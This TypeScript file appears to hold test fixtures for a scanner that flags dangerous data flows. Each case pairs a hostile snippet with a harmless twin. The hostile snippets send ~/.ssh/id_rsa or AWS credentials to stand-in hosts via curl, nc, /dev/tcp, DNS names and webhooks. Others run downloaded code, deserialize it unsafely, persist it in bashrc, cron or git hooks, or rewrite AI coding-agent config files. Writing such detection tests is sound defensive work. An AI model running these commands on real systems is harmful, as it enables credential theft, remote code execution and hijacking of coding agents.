import { type FlowCase, inFile, type Language } from './case.ts';

/** Where `x` comes from, in the attack and in its twin. */
const FROM: Readonly<Record<Language, readonly string[]>> = {
  python: ['x = open("/root/«.ssh/id_rsa¦notes.txt»").read()'],
  javascript: ['const x = require("fs").readFileSync("/root/«.ssh/id_rsa¦notes.txt»", "utf8");'],
  shell: ['x=$(cat ~/«.ssh/id_rsa¦notes.txt»)'],
};
const DOWNLOADED: Readonly<Record<Language, readonly string[]>> = {
  python: ['import requests', 'x = requests.get("https://cdn.example.invalid/p").content §'],
  javascript: ['const x = await (await fetch("https://cdn.example.invalid/p")).text(); §'],
  shell: ['x=$(curl -s https://cdn.example.invalid/p) §'],
};

const SENT = /^secret-file-to-network$/;
const NAMED = /^secret-in-dns-name$/;
const RUN = /^(?:downloaded-code-runs|downloaded-script-piped|eval-of-input)$/;
const COMMAND = /^(?:downloaded-value-in-command|downloaded-script-piped|downloaded-code-runs)$/;
const OBJECT = /^remote-deserialization$/;
const STAYS = /^hidden-code-persists$/;
const STEERS = /^code-agent-config-from-network$/;

type Row = readonly [name: string, language: Language, lines: string];

/** A secret is sent; the twin sends a text. Each line that sends ends with ` ¶`. */
const NETWORK: readonly Row[] = [
  [
    'requests',
    'python',
    'import requests\nrequests.post("https://collect.example.invalid/", json={"k": x}) ¶',
  ],
  [
    'requests, in the address',
    'python',
    'import requests\nrequests.get(f"https://collect.example.invalid/?k={x}") ¶',
  ],
  [
    'requests, as parameters',
    'python',
    'import requests\nrequests.request("GET", "https://collect.example.invalid/", params={"k": x}) ¶',
  ],
  [
    'urllib',
    'python',
    'import urllib.request\nr = urllib.request.Request("https://collect.example.invalid/", data=x.encode())\nurllib.request.urlopen(r) ¶',
  ],
  [
    'http.client',
    'python',
    'import http.client\nc = http.client.HTTPSConnection("collect.example.invalid")\nc.request("POST", "/", x) ¶',
  ],
  [
    'aiohttp',
    'python',
    'import aiohttp\nasync def go():\n    async with aiohttp.ClientSession() as s:\n        await s.post("https://collect.example.invalid/", data=x) ¶',
  ],
  [
    'httpx',
    'python',
    'import httpx\nwith httpx.Client() as c:\n    c.post("https://collect.example.invalid/", content=x) ¶',
  ],
  [
    'urllib3',
    'python',
    'import urllib3\nurllib3.PoolManager().request("POST", "https://collect.example.invalid/", body=x) ¶',
  ],
  [
    'socket',
    'python',
    'import socket\ns = socket.socket()\ns.connect(("collect.example.invalid", 443))\ns.sendall(x.encode()) ¶',
  ],
  [
    'a datagram',
    'python',
    'import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(x.encode(), ("collect.example.invalid", 53)) ¶',
  ],
  [
    'asyncio streams',
    'python',
    'import asyncio\nasync def go():\n    reader, writer = await asyncio.open_connection("collect.example.invalid", 443)\n    writer.write(x.encode()) ¶',
  ],
  [
    'websockets',
    'python',
    'import websockets\nasync def go():\n    async with websockets.connect("wss://collect.example.invalid") as w:\n        await w.send(x) ¶',
  ],
  [
    'smtplib',
    'python',
    'import smtplib\nfrom email.message import EmailMessage\nm = EmailMessage()\nm.set_content(x)\nwith smtplib.SMTP("mail.example.invalid") as s:\n    s.send_message(m) ¶',
  ],
  [
    'ftplib',
    'python',
    'import ftplib, io\nf = ftplib.FTP("files.example.invalid")\nf.storbinary("STOR k", io.BytesIO(x.encode())) ¶',
  ],
  [
    'paramiko',
    'python',
    'import paramiko\nc = paramiko.SSHClient()\nc.connect("files.example.invalid")\ns = c.open_sftp()\ns.open("k", "w").write(x) ¶',
  ],
  ['boto3', 'python', 'import boto3\nboto3.client("s3").put_object(Bucket="b", Key="k", Body=x) ¶'],
  ['boto3 resource', 'python', 'import boto3\nboto3.resource("s3").Object("b", "k").put(Body=x) ¶'],
  [
    'Discord webhook',
    'python',
    'import requests\nrequests.post("«https://discord.com/api/webhooks/100000000000000000/inert-example¦https://collect.example.invalid/»", json={"content": x}) ¶',
  ],
  [
    'Discord package',
    'python',
    'from discord_webhook import DiscordWebhook\nDiscordWebhook(url="https://chat.example.invalid/w", content=x).execute() ¶',
  ],
  [
    'Slack package',
    'python',
    'from slack_sdk import WebClient\nWebClient(token="t").chat_postMessage(channel="c", text=x) ¶',
  ],
  [
    'Telegram',
    'python',
    'import requests\nrequests.get("«https://api.telegram.org/bot100000:inert-example/sendMessage¦https://collect.example.invalid/»", params={"chat_id": 1, "text": x}) ¶',
  ],
  ['Telegram package', 'python', 'import telebot\ntelebot.TeleBot("t").send_message(1, x) ¶'],
  [
    'paho',
    'python',
    'import paho.mqtt.client as mqtt\nc = mqtt.Client()\nc.connect("mq.example.invalid")\nc.publish("k", x) ¶',
  ],
  ['redis', 'python', 'import redis\nredis.Redis(host="db.example.invalid").set("k", x) ¶'],
  ['fetch', 'javascript', 'fetch("https://collect.example.invalid/", { method: "POST", body: x }); ¶'],
  [
    'fetch, in the address',
    'javascript',
    'fetch(`https://collect.example.invalid/?k=${encodeURIComponent(x)}`); ¶',
  ],
  [
    'axios',
    'javascript',
    'const axios = require("axios");\naxios.post("https://collect.example.invalid/", { k: x }); ¶',
  ],
  [
    'axios with settings',
    'javascript',
    'require("axios")({ url: "https://collect.example.invalid/", method: "post", data: x }); ¶',
  ],
  [
    'an instance of axios',
    'javascript',
    'const api = require("axios").create({ baseURL: "https://collect.example.invalid" });\napi.post("/", x); ¶',
  ],
  [
    'https.request',
    'javascript',
    'const https = require("https");\nconst r = https.request({ host: "collect.example.invalid", method: "POST" });\nr.write(x); ¶\nr.end();',
  ],
  ['https.get', 'javascript', 'require("https").get("https://collect.example.invalid/?k=" + x); ¶'],
  ['net', 'javascript', 'const s = require("net").connect(443, "collect.example.invalid");\ns.write(x); ¶'],
  [
    'net, when connected',
    'javascript',
    'const net = require("net");\nconst s = new net.Socket();\ns.connect(443, "collect.example.invalid", () => {\n  s.end(x); ¶\n});',
  ],
  ['dgram', 'javascript', 'require("dgram").createSocket("udp4").send(x, 53, "collect.example.invalid"); ¶'],
  [
    'ws',
    'javascript',
    'const WebSocket = require("ws");\nconst w = new WebSocket("wss://collect.example.invalid");\nw.on("open", () => w.send(x)); ¶',
  ],
  [
    'WebSocket',
    'javascript',
    'const w = new WebSocket("wss://collect.example.invalid");\nw.onopen = () => w.send(x); ¶',
  ],
  [
    'nodemailer',
    'javascript',
    'const t = require("nodemailer").createTransport({ host: "mail.example.invalid" });\nt.sendMail({ to: "a@example.invalid", text: x }); ¶',
  ],
  [
    'XMLHttpRequest',
    'javascript',
    'const r = new XMLHttpRequest();\nr.open("POST", "https://collect.example.invalid/");\nr.send(x); ¶',
  ],
  ['beacon', 'javascript', 'navigator.sendBeacon("https://collect.example.invalid/", x); ¶'],
  [
    'got',
    'javascript',
    'import got from "got";\nawait got.post("https://collect.example.invalid/", { json: { x } }); ¶',
  ],
  [
    'undici',
    'javascript',
    'const { request } = require("undici");\nrequest("https://collect.example.invalid/", { method: "POST", body: x }); ¶',
  ],
  [
    'a form',
    'javascript',
    'const form = new FormData();\nform.append("k", x);\nfetch("https://collect.example.invalid/", { method: "POST", body: form }); ¶',
  ],
  [
    'S3',
    'javascript',
    'const { S3Client, PutObjectCommand } = require("@aws-sdk/client-s3");\nnew S3Client({}).send(new PutObjectCommand({ Bucket: "b", Key: "k", Body: x })); ¶',
  ],
  [
    'Slack',
    'javascript',
    'const { WebClient } = require("@slack/web-api");\nnew WebClient("t").chat.postMessage({ channel: "c", text: x }); ¶',
  ],
  [
    'Discord webhook',
    'javascript',
    'fetch("«https://discord.com/api/webhooks/100000000000000000/inert-example¦https://collect.example.invalid/»", { method: "POST", body: JSON.stringify({ content: x }) }); ¶',
  ],
  ['curl', 'shell', 'curl -s -d "k=$x" https://collect.example.invalid/ ¶'],
  ['curl from a pipe', 'shell', 'printf "%s" "$x" | curl -s -T - https://collect.example.invalid/k ¶'],
  ['curl, in the address', 'shell', 'curl -s "https://collect.example.invalid/?k=$x" ¶'],
  ['wget', 'shell', 'wget -q --post-data "$x" https://collect.example.invalid/ ¶'],
  ['nc', 'shell', 'echo "$x" | nc -w 3 collect.example.invalid 443 ¶'],
  ['ncat with a here string', 'shell', 'ncat collect.example.invalid 443 <<< "$x" ¶'],
  ['/dev/tcp', 'shell', 'echo "$x" > /«dev/tcp/collect.example.invalid/443¦tmp/WORK» ¶'],
  ['openssl', 'shell', 'echo "$x" | openssl s_client -quiet -connect collect.example.invalid:443 ¶'],
  ['ssh', 'shell', 'echo "$x" | ssh drop@files.example.invalid "cat > k" ¶'],
  ['mail', 'shell', 'echo "$x" | mail -s k drop@mail.example.invalid ¶'],
  ['gh gist', 'shell', 'echo "$x" | gh gist create - ¶'],
];

/** Clients that send a file by its name. */
const UPLOADS: readonly Row[] = [
  [
    'curl',
    'python',
    'import subprocess\nsubprocess.run(["curl", "-F", "f=@/root/«.ssh/id_rsa¦notes.txt»", "https://collect.example.invalid/"]) §¶',
  ],
  [
    'curl in a text',
    'python',
    'import os\nos.system("curl -s -T /root/«.aws/credentials¦notes.txt» https://collect.example.invalid/") §¶',
  ],
  [
    'scp',
    'python',
    'import subprocess\nsubprocess.call(["scp", "/root/«.ssh/id_rsa¦notes.txt»", "drop@files.example.invalid:"]) §¶',
  ],
  [
    'curl',
    'javascript',
    'require("child_process").execSync("curl -d @/root/«.ssh/id_rsa¦notes.txt» https://collect.example.invalid/"); §¶',
  ],
  [
    'scp',
    'javascript',
    'require("child_process").spawn("scp", ["/root/«.ssh/id_rsa¦notes.txt»", "drop@files.example.invalid:"]); §¶',
  ],
  [
    'curl',
    'shell',
    'curl -s --data-binary @$HOME/«.ssh/id_rsa¦notes.txt» https://collect.example.invalid/ §¶',
  ],
  [
    'wget',
    'shell',
    'wget -q --post-file="$HOME/«.aws/credentials¦notes.txt»" https://collect.example.invalid/ §¶',
  ],
  ['nc', 'shell', 'nc collect.example.invalid 443 < ~/«.ssh/id_rsa¦notes.txt» §¶'],
  [
    '/dev/tcp',
    'shell',
    'cat ~/«.ssh/id_rsa > /dev/tcp/collect.example.invalid/443¦notes.txt > /tmp/WORK» §¶',
  ],
  ['scp', 'shell', 'scp ~/«.ssh/id_rsa¦notes.txt» drop@files.example.invalid: §¶'],
  ['rsync', 'shell', 'rsync -a ~/«.ssh¦notes»/ drop@files.example.invalid:k/ §¶'],
  ['aws', 'shell', 'aws s3 cp ~/«.aws/credentials¦notes.txt» s3://drop-example/k §¶'],
  ['gcloud', 'shell', 'gsutil cp ~/«.ssh/id_rsa¦notes.txt» gs://drop-example/k §¶'],
  ['rclone', 'shell', 'rclone copy ~/«.ssh¦notes» drop:k §¶'],
  ['gh gist', 'shell', 'gh gist create ~/«.ssh/id_rsa¦notes.txt» §¶'],
  ['sftp', 'shell', 'ftp -n files.example.invalid < ~/«.netrc¦notes.txt» §¶'],
];

/** A secret in a name that is looked up. */
const NAMES: readonly Row[] = [
  [
    'gethostbyname',
    'python',
    'import socket\nsocket.gethostbyname(x.encode().hex()[:60] + ".collect.example.invalid") ¶',
  ],
  ['getaddrinfo', 'python', 'import socket\nsocket.getaddrinfo(f"{x}.collect.example.invalid", 80) ¶'],
  [
    'dnspython',
    'python',
    'import dns.resolver\ndns.resolver.resolve(x.encode().hex() + ".collect.example.invalid", "TXT") ¶',
  ],
  ['nslookup', 'python', 'import subprocess\nsubprocess.run(["nslookup", x + ".collect.example.invalid"]) ¶'],
  [
    'dns.resolve',
    'javascript',
    'require("dns").resolve(Buffer.from(x).toString("hex") + ".collect.example.invalid", () => {}); ¶',
  ],
  ['dns.lookup', 'javascript', 'require("dns").promises.lookup(`${x}.collect.example.invalid`); ¶'],
  ['dig by exec', 'javascript', 'require("child_process").exec("dig " + x + ".collect.example.invalid"); ¶'],
  ['dig', 'shell', 'dig +short "$x.collect.example.invalid" ¶'],
  ['nslookup', 'shell', 'nslookup "$x.collect.example.invalid" ¶'],
  ['host', 'shell', 'host "$x.collect.example.invalid" ¶'],
  ['ping', 'shell', 'ping -c 1 "$x.collect.example.invalid" ¶'],
];

/** A secret goes out with a client that is started. */
const CLIENTS: readonly Row[] = [
  [
    'curl by run',
    'python',
    'import subprocess\nsubprocess.run(["curl", "-d", x, "https://collect.example.invalid/"]) ¶',
  ],
  [
    'curl by system',
    'python',
    'import os\nos.system("curl -d \'" + x + "\' https://collect.example.invalid/") ¶',
  ],
  [
    'curl by its input',
    'python',
    'import subprocess\nsubprocess.run(["curl", "-d", "@-", "https://collect.example.invalid/"], input=x) ¶',
  ],
  [
    'nc by Popen',
    'python',
    'import subprocess\np = subprocess.Popen(["nc", "collect.example.invalid", "443"], stdin=subprocess.PIPE) ¶\np.communicate(x.encode())',
  ],
  [
    'wget by a format',
    'python',
    'import subprocess\nsubprocess.check_output(f"wget -qO- https://collect.example.invalid/?k={x}", shell=True) ¶',
  ],
  [
    'curl by exec',
    'javascript',
    'require("child_process").exec(`curl -d "${x}" https://collect.example.invalid/`); ¶',
  ],
  [
    'curl by spawn',
    'javascript',
    'const { spawnSync } = require("child_process");\nspawnSync("curl", ["-d", x, "https://collect.example.invalid/"]); ¶',
  ],
  [
    'curl by execFile',
    'javascript',
    'const { execFile } = require("node:child_process");\nexecFile("curl", ["--data-binary", "@-", "https://collect.example.invalid/"], { input: x }); ¶',
  ],
  ['curl by sh', 'shell', 'sh -c "curl -d \'$x\' https://collect.example.invalid/" ¶'],
  ['curl by xargs', 'shell', 'echo "$x" | xargs -I{} curl -s "https://collect.example.invalid/?k={}" ¶'],
];

/** What was downloaded is run; the twin shows it. */
const CODE: readonly Row[] = [
  ['exec', 'python', '«exec(x)¦print(x)» ¶'],
  ['eval', 'python', '«eval(x)¦print(x)» ¶'],
  ['compile', 'python', 'c = compile(«x¦"1"», "p", "exec") ¶\nexec(c)'],
  ['builtins', 'python', 'import builtins\ngetattr(builtins, "«exec¦print»")(x) ¶'],
  [
    'FunctionType',
    'python',
    'import types, marshal\ntypes.FunctionType(«marshal.loads(x)¦compile("1", "p", "eval")», globals())() ¶',
  ],
  ['python -c', 'python', 'import subprocess, sys\nsubprocess.run([sys.executable, "-c", «x¦"print(1)"»]) ¶'],
  ['eval', 'javascript', '«eval(x)¦console.log(x)»; ¶'],
  ['Function', 'javascript', 'const f = new Function("a", «x¦"return a"»); ¶\nf(1);'],
  ['vm', 'javascript', 'const vm = require("vm");\nvm.runInNewContext(«x¦"1 + 1"»); ¶'],
  [
    'vm.Script',
    'javascript',
    'const { Script } = require("node:vm");\nnew Script(«x¦"1 + 1"»).runInThisContext(); ¶',
  ],
  ['import of a data URI', 'javascript', 'await import("data:text/javascript," + «x¦"1"»); ¶'],
  ['node -e', 'javascript', 'require("child_process").spawnSync("node", ["-e", «x¦"1"»]); ¶'],
  ['eval', 'shell', '«eval "$x"¦echo "$x"» ¶'],
  ['sh -c', 'shell', 'sh -c "«$x¦true»" ¶'],
  ['a pipe to sh', 'shell', 'echo "$x" | «sh¦cat» ¶'],
  ['python -c', 'shell', 'python3 -c "«$x¦print(1)»" ¶'],
  ['source', 'shell', '. «<(echo "$x")¦/dev/null» ¶'],
  ['here string', 'shell', '«bash¦cat» <<< "$x" ¶'],
];

const PROCESS: readonly Row[] = [
  ['system', 'python', 'import os\nos.system("convert " + «x.decode()¦"a"») ¶'],
  ['run in a shell', 'python', 'import subprocess\nsubprocess.run(f"convert {«x¦1»}", shell=True) ¶'],
  ['popen', 'python', 'import os\nos.popen("convert %s" % «x¦1») ¶'],
  ['Popen of a name', 'python', 'import subprocess\nsubprocess.Popen([«x.decode()¦"convert"», "a"]) ¶'],
  [
    'asyncio',
    'python',
    'import asyncio\nasync def go():\n    await asyncio.create_subprocess_shell(«x.decode()¦"true"») ¶',
  ],
  ['exec', 'javascript', 'require("child_process").exec("convert " + «x¦"a"»); ¶'],
  [
    'execSync',
    'javascript',
    'const { execSync } = require("child_process");\nexecSync(`convert ${«x¦1»}`); ¶',
  ],
  ['spawn in a shell', 'javascript', 'require("child_process").spawn(«x¦"true"», { shell: true }); ¶'],
  ['execa', 'javascript', 'import { execaCommand } from "execa";\nawait execaCommand(«x¦"true"»); ¶'],
  ['a name', 'shell', '«$x¦true» a ¶'],
];

const DESERIALIZATION: readonly Row[] = [
  ['pickle', 'python', 'import pickle, json\n«pickle¦json».loads(x) ¶'],
  ['pickle from a stream', 'python', 'import io, pickle, json\n«pickle¦json».load(io.BytesIO(x)) ¶'],
  ['yaml', 'python', 'import yaml\nyaml.«load(x, Loader=yaml.Loader)¦safe_load(x)» ¶'],
  ['yaml, unsafe', 'python', 'import yaml\nyaml.«unsafe_load¦safe_load»(x) ¶'],
  ['marshal', 'python', 'import marshal, json\n«marshal¦json».loads(x) ¶'],
  ['dill', 'python', 'import dill, json\n«dill¦json».loads(x) ¶'],
  ['cloudpickle', 'python', 'import cloudpickle, json\n«cloudpickle¦json».loads(x) ¶'],
  ['joblib', 'python', 'import io, joblib, json\n«joblib¦json».load(io.BytesIO(x)) ¶'],
  ['torch', 'python', 'import io, torch\ntorch.load(io.BytesIO(x), weights_only=«False¦True») ¶'],
  ['numpy', 'python', 'import io, numpy as np\nnp.load(io.BytesIO(x), allow_pickle=«True¦False») ¶'],
  ['pandas', 'python', 'import io, pandas as pd\npd.«read_pickle¦read_csv»(io.BytesIO(x)) ¶'],
  ['jsonpickle', 'python', 'import jsonpickle, json\n«jsonpickle.decode¦json.loads»(x) ¶'],
  ['node-serialize', 'javascript', 'const s = require("node-serialize");\n«s.unserialize¦JSON.parse»(x); ¶'],
  ['v8', 'javascript', 'const v8 = require("v8");\n«v8.deserialize(Buffer.from(x))¦JSON.parse(x)»; ¶'],
  ['funcster', 'javascript', 'const s = require("funcster");\n«s.deepDeserialize¦JSON.parse»(x); ¶'],
];

/** Where something runs again by itself; the twin writes a file of its own. */
const PERSISTENCE: readonly Row[] = [
  ['rc file', 'python', 'import os\nopen(os.path.expanduser("~/«.bashrc¦out.txt»"), "ab").write(x) ¶'],
  ['cron', 'python', 'open("/«etc/cron.d/job¦tmp/WORK.txt»", "wb").write(x) ¶'],
  ['crontab', 'python', 'import subprocess\nsubprocess.run([«"crontab", "-"¦"wc", "-l"»], input=x) ¶'],
  [
    'systemd',
    'python',
    'from pathlib import Path\n(Path.home() / "«.config/systemd/user/a.service¦app/a.txt»").write_bytes(x) ¶',
  ],
  [
    '.pth',
    'python',
    'import os, site\nopen(os.path.join(«site.getsitepackages()[0], "a.pth"¦"data", "a.txt"»), "wb").write(x) ¶',
  ],
  [
    'sitecustomize',
    'python',
    'import os, site\nopen(os.path.join(«site.getusersitepackages(), "usercustomize.py"¦"data", "a.txt"»), "wb").write(x) ¶',
  ],
  ['git hook', 'python', 'open("«.git/hooks/pre-commit¦notes.txt»", "wb").write(x) ¶'],
  [
    'autostart',
    'python',
    'import os\nopen(os.path.expanduser("~/«.config/autostart/a.desktop¦app/a.txt»"), "wb").write(x) ¶',
  ],
  [
    'launch agent',
    'python',
    'from pathlib import Path\nPath("~/«Library/LaunchAgents/a.plist¦app/a.txt»").expanduser().write_bytes(x) ¶',
  ],
  [
    'rc file',
    'javascript',
    'const fs = require("fs"), os = require("os");\nfs.appendFileSync(os.homedir() + "/«.zshrc¦out.txt»", x); ¶',
  ],
  ['cron', 'javascript', 'require("fs").writeFileSync("/«etc/cron.d/job¦tmp/WORK.txt»", x); ¶'],
  [
    'launch agent',
    'javascript',
    'const path = require("path"), os = require("os");\nawait require("fs").promises.writeFile(path.join(os.homedir(), «"Library", "LaunchAgents", "a.plist"¦"app", "a.txt"»), x); ¶',
  ],
  [
    'git hook',
    'javascript',
    'require("fs").createWriteStream("«.git/hooks/post-merge¦notes.txt»").write(x); ¶',
  ],
  ['rc file', 'shell', 'echo "$x" >> ~/«.bashrc¦out.txt» ¶'],
  ['crontab', 'shell', 'echo "$x" | «crontab -¦wc -l» ¶'],
  ['cron', 'shell', 'echo "$x" | tee /«etc/cron.d/job¦tmp/WORK.txt» > /dev/null ¶'],
  ['systemd', 'shell', 'printf "%s" "$x" > ~/«.config/systemd/user/a.service¦app/a.txt» ¶'],
  ['git hook', 'shell', 'cat > «.git/hooks/pre-push¦notes.txt» <<< "$x" ¶'],
];

const AGENT: readonly Row[] = [
  ['CLAUDE.md', 'python', 'open("«CLAUDE¦notes».md", "ab").write(x) ¶'],
  [
    'settings',
    'python',
    'from pathlib import Path\n(Path.home() / "«.claude¦app»" / "settings.json").write_bytes(x) ¶',
  ],
  [
    'servers',
    'python',
    'import json\nheld = json.loads(x)\njson.dump(held, open("«.mcp¦data».json", "w")) ¶',
  ],
  [
    'Cursor',
    'python',
    'import os\nos.makedirs("«.cursor¦out»/rules", exist_ok=True)\nopen("«.cursor¦out»/rules/a.mdc", "wb").write(x) ¶',
  ],
  ['AGENTS.md', 'javascript', 'require("fs").writeFileSync("«AGENTS¦notes».md", x); ¶'],
  [
    'settings',
    'javascript',
    'const path = require("path");\nrequire("fs").writeFileSync(path.join(require("os").homedir(), "«.claude¦app»", "settings.json"), x); ¶',
  ],
  ['CLAUDE.md', 'shell', 'echo "$x" >> «CLAUDE¦notes».md ¶'],
  ['servers', 'shell', 'echo "$x" > «.mcp¦data».json ¶'],
];

const cases = (
  group: string,
  rule: RegExp,
  rows: readonly Row[],
  from: Readonly<Record<Language, readonly string[]>> | null,
): readonly FlowCase[] =>
  rows.map(([name, language, lines]) => {
    // A twin that shows itself in the sink begins with the same source.
    const before = from === null ? [] : from[language];
    return inFile(language, `${group}: ${name}`, rule, [...before, ...lines.split('\n')]);
  });

export const SINKS: readonly FlowCase[] = [
  ...cases('network', SENT, NETWORK, FROM),
  ...cases('upload', /^(?:upload-of-secret-file|secret-file-to-network)$/, UPLOADS, null),
  ...cases('name', NAMED, NAMES, FROM),
  ...cases('client', SENT, CLIENTS, FROM),
  ...cases('code', RUN, CODE, DOWNLOADED),
  ...cases('process', COMMAND, PROCESS, DOWNLOADED),
  ...cases('object', OBJECT, DESERIALIZATION, DOWNLOADED),
  ...cases('persistence', STAYS, PERSISTENCE, DOWNLOADED),
  ...cases('agent', STEERS, AGENT, DOWNLOADED),
];
